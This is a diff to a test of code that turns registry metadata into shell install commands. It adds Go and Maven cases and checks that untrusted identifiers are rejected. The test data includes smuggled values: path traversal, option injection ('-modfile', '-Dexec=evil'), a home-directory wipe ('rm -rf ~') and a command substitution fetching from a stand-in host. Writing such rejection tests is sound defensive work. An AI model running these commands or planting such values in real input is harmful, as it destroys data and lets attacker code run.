@@ -84,6 +84,19 @@ def test_routes(path: str, route: WebRoute | None) -> None:
          "cargo install mcp-x --version 0.3.0 --index sparse+https://art.example.com/cargo/"),
         ({"registryType": "mcpb", "identifier": "https://art.example.com/r/x.mcpb"},
          "curl --proto =http,https -g -fLO https://art.example.com/r/x.mcpb"),
+        ({"registryType": "go", "identifier": "github.com/acme/weather", "version": "v1.2.0",
+          "registryBaseUrl": "https://art.example.com/api/go/go-remote"},
+         "GOPROXY=https://art.example.com/api/go/go-remote go run github.com/acme/weather@v1.2.0"),
+        ({"registryType": "go", "identifier": "github.com/Acme/weather", "version": "1.2.0"},
+         "go run github.com/Acme/weather@v1.2.0"),  # Go's versions carry their v
+        ({"registryType": "maven", "identifier": "com.acme:weather-mcp", "version": "1.2.0",
+          "registryBaseUrl": "https://nexus.example.com/repository/maven-central/"},
+         "jbang --repos mirror=https://nexus.example.com/repository/maven-central/ "
+         "com.acme:weather-mcp:1.2.0"),
+        ({"registryType": "go", "identifier": "github.com/a/../../x", "version": "v1"}, None),
+        ({"registryType": "go", "identifier": "-modfile=/tmp/x", "version": "v1"}, None),
+        ({"registryType": "maven", "identifier": "com.acme:tool:1.0:jar"}, None),
+        ({"registryType": "maven", "identifier": "-Dexec=evil:x"}, None),
         # Fields come from strangers: quoted for the shell, or no command at all.
         ({"registryType": "npm", "identifier": "x; rm -rf ~"}, None),
         ({"registryType": "npm", "identifier": "$(curl evil.example)"}, None),
